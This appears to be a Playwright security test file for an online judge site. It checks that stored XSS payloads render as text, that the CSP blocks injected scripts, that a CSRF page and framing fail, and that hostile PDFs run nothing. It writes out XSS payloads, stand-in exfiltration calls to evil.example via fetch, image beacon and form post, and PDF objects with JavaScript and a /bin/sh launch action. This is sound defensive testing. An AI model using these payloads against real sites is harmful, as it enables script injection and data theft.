/** What needs a real browser to show: text that tries to be a page, scripts that steal, other sites' pages. */
import type { Page } from '@playwright/test';
import { getMe } from '#contract/accounts.ts';
import { getUploadProgress } from '#contract/problems.ts';
import { sendSubmission, waitForVerdict } from '#harness/sample-submission.ts';
import { until } from '#harness/until.ts';
import { writeZip } from '#harness/zip.ts';
import { assemblePdf } from './hand-made-pdf.ts';
import { expect, heading, signIn, test } from './journey.ts';
import { createProblem, freshId } from './sample-problem.ts';

const mark = `<img src="/nope" onerror="window.attacked=1"><script>window.attacked=1</script>{{7*7}}`;

/** The text stands there as it was written, and no part of it became anything else. */
async function expectOnlyText(page: Page): Promise<void> {
  await expect(page.getByText(mark).filter({ visible: true }).first()).toBeVisible();
  expect(await page.evaluate('window.attacked')).toBeUndefined();
  expect(await page.locator('img[src="/nope"], [onerror]').count()).toBe(0);
}

test.describe('a script stored in', () => {
  test('a title, the code, what the compiler says', async ({ page, adminApi, createAccount }) => {
    const id = freshId('stored');
    await createProblem(adminApi, { id, title: mark, withPdf: false });
    const user = await createAccount();
    const person = await signIn(page, user);
    const code = `#error ${mark}\n// ${mark}\n`;
    const submission = await sendSubmission(person, { problemId: id, code });
    const { overall_status, compiler_output } = await waitForVerdict(person, submission);
    expect(overall_status).toBe('Compilation Error');
    expect(compiler_output).toContain(mark);
    for (const path of ['/problems', `/problems/${id}`, '/submissions', `/submissions?view=${submission}`]) {
      await page.goto(path);
      await expectOnlyText(page);
    }
    const viewer = page.getByRole('dialog');
    await expect(viewer.getByText(`error: #error ${mark}`)).toBeVisible();
    await expect(viewer.getByLabel('Code', { exact: true })).toContainText(`// ${mark}`);
  });

  test('a title, for staff, and the name of a file in an archive', async ({
    page,
    adminApi,
    createAccount,
  }) => {
    const id = freshId('stored-name');
    await createProblem(adminApi, { id, title: mark, withPdf: false, withTests: false });
    const hostile = mark.replaceAll('/', '');
    const archive = await writeZip([
      { name: '1.in', content: '1\n' },
      { name: '1.out', content: '1\n' },
      { name: `__MACOSX/${hostile}`, content: 'x' },
    ]);
    const jobId = (await adminApi.upload(id, { zip: archive })) ?? '';
    await until(async () => {
      const { status } = await adminApi.call(getUploadProgress, { params: { jobId } });
      return /completed|failed/.test(status);
    });
    await signIn(page, await createAccount('staff'));
    await page.goto('/admin/problems');
    await expectOnlyText(page);
    await page.getByRole('row').filter({ hasText: id }).getByRole('button', { name: /^Edit/ }).click();
    await expect(page.getByRole('dialog')).toBeVisible();
    await expect(page.getByRole('dialog').getByLabel('Title')).toHaveValue(mark);
    await expectOnlyText(page);
  });

  test('a username, if one ever got past the server', async ({ page, createAccount }) => {
    await signIn(page, await createAccount('admin'));
    await page.route('**/api/scoreboard', (route) =>
      route.fulfill({ json: [{ username: mark, problems_solved: 1, total_score: 100 }] }),
    );
    await page.route('**/api/admin/users', (route) =>
      route.fulfill({ json: [{ id: 999, username: mark, role: 'user', is_protected: false }] }),
    );
    await page.route('**/api/me', (route) =>
      route.fulfill({ json: { isAuthenticated: true, user: { id: 1, username: mark, role: 'admin' } } }),
    );
    for (const path of ['/scoreboard', '/admin/users', '/admin']) {
      await page.goto(path);
      await expectOnlyText(page);
    }
  });

  test('an address, or the server’s own words', async ({ page }) => {
    await page.route('**/api/problems/*', (route) =>
      route.fulfill({ status: 400, json: { code: 'invalid_request', message: mark } }),
    );
    await page.goto(`/problems/${encodeURIComponent(mark)}`);
    await expect(
      page
        .getByRole('alert')
        .or(page.getByRole('heading', { level: 1 }))
        .first(),
    ).toBeVisible();
    expect(await page.evaluate('window.attacked')).toBeUndefined();
    await page.goto(`/nope?next=javascript:window.attacked=1#${mark}`);
    await expect(heading(page, 'Page not found')).toBeVisible();
    expect(await page.evaluate('window.attacked')).toBeUndefined();
  });

  test.use({ expectedConsole: /status of 40[04]/ });
});

test.describe('a script that got in', () => {
  test.use({ expectedConsole: /Content Security Policy|violates the following|Refused to/ });

  test('cannot read the session, run what it brings, or send anything away', async ({
    page,
    createAccount,
  }) => {
    await signIn(page, await createAccount());
    await page.goto('/problems');
    await expect(heading(page, 'All Problems')).toBeVisible();
    expect(await page.evaluate('document.cookie')).not.toContain('minos_session');
    await page.evaluate(`(async () => {
      window.refused = new Set();
      document.addEventListener('securitypolicyviolation', (event) => window.refused.add(event.effectiveDirective));
      const add = (name, properties) => document.body.append(Object.assign(document.createElement(name), properties));
      add('script', { textContent: 'window.attacked = 1' });
      add('script', { src: 'https://evil.example/x.js' });
      add('script', { src: 'data:text/javascript,window.attacked=1' });
      add('img', { src: 'https://evil.example/?' + document.title });
      add('iframe', { src: 'https://evil.example/' });
      add('base', { href: 'https://evil.example/' });
      add('div', { innerHTML: '<b onclick="window.attacked = 1">x</b>' });
      document.querySelector('b[onclick]').click();
      await fetch('https://evil.example/', { method: 'POST', body: 'x', mode: 'no-cors' }).catch(() => {});
      // Only now: the debugger that runs this lets its own first step evaluate text.
      await new Promise((resolve) => setTimeout(resolve));
      try { (0, eval)('window.attacked = 1'); } catch {}
      add('form', { id: 'away', action: 'https://evil.example/', method: 'post' });
      document.querySelector('#away').submit();
    })()`);
    await expect
      .poll(() => page.evaluate('[...window.refused]'))
      .toEqual(
        expect.arrayContaining([
          'base-uri',
          'connect-src',
          'form-action',
          'frame-src',
          'img-src',
          'script-src',
          'script-src-attr',
          'script-src-elem',
        ]),
      );
    expect(await page.evaluate('window.attacked')).toBeUndefined();
    expect(await page.evaluate('location.pathname')).toBe('/problems');
  });
});

test.describe('a page of another site', () => {
  test.use({
    expectedConsole: /evil\.example|frame-ancestors|X-Frame-Options|status of 403|chrome-error|Refused|ERR_/,
  });

  test('cannot write with the visitor’s session, nor show our pages in a frame', async ({
    page,
    createAccount,
    baseURL,
  }) => {
    const user = await createAccount();
    const person = await signIn(page, user);
    await page.route('http://evil.example/', (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: `<form method="post" action="${baseURL}/api/logout" target="answer"></form>
          <iframe name="answer"></iframe><iframe name="framed" src="${baseURL}/problems"></iframe>
          <script>document.forms[0].submit()</script>`,
      }),
    );
    const tried = page.waitForRequest((request) => request.url() === `${baseURL}/api/logout`);
    await page.goto('http://evil.example/');
    const answer = await (await tried).response();
    expect(answer?.status() ?? 403).toBe(403);
    const framed = page.frame('framed');
    await expect.poll(() => framed?.url()).toMatch(/^chrome-error:/);
    await page.goto('/');
    expect((await person.call(getMe)).user?.username).toBe(user.username);
  });
});

test.describe('a hostile statement', () => {
  test.use({ expectedConsole: /Warning|pdf|PDF|Invalid|XRef|willReadFrequently/ });

  const page1 = (more: string) =>
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> ${more} >>`;
  const statements: Record<string, Buffer> = {
    'with scripts and links that run one': assemblePdf([
      '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA << /WC 5 0 R >> >>',
      '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
      page1('/Annots [4 0 R 6 0 R] /AA << /O 5 0 R >>'),
      '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (javascript:window.attacked=1) >> >>',
      '<< /S /JavaScript /JS (window.attacked=1; this.submitForm\\("https://evil.example/"\\)) >>',
      '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (/bin/sh) >> >>',
    ]),
    'whose pages contain themselves': assemblePdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Count 3 /Kids [2 0 R 2 0 R 3 0 R] /Parent 2 0 R >>',
      page1(''),
    ]),
    'that promises a billion pages': assemblePdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Count 1000000000 /Kids [3 0 R] >>',
      page1(''),
    ]),
    'with a page as large as a country': assemblePdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
      page1('').replace('[0 0 595 842]', '[0 0 2000000000 2000000000]'),
    ]),
    'that is only a beginning': Buffer.from('%PDF-1.7\n'),
    'that is a web page': Buffer.from('%PDF-1.7\n<html><script>window.attacked=1</script></html>'),
  };

  for (const [name, pdf] of Object.entries(statements)) {
    test(`${name} runs nothing, and the page stays usable`, async ({ page, adminApi }) => {
      const id = freshId('hostile');
      await createProblem(adminApi, { id, title: 'Still Usable', withTests: false, pdf });
      await page.goto(`/problems/${id}`);
      await expect(heading(page, 'Still Usable')).toBeVisible();
      await expect(
        page.locator('canvas').or(page.getByText('The statement could not be shown here.')).first(),
      ).toBeVisible();
      expect(await page.locator('a[href^="javascript:" i], a[href^="file:" i]').count()).toBe(0);
      expect(await page.evaluate('window.attacked')).toBeUndefined();
      await page.getByRole('tab', { name: 'Submit' }).click();
      await expect(page.getByText('Please log in to submit a solution.')).toBeVisible();
      await expect(page).toHaveURL(new RegExp(`/problems/${id}\\?tab=submit$`));
    });
  }
});
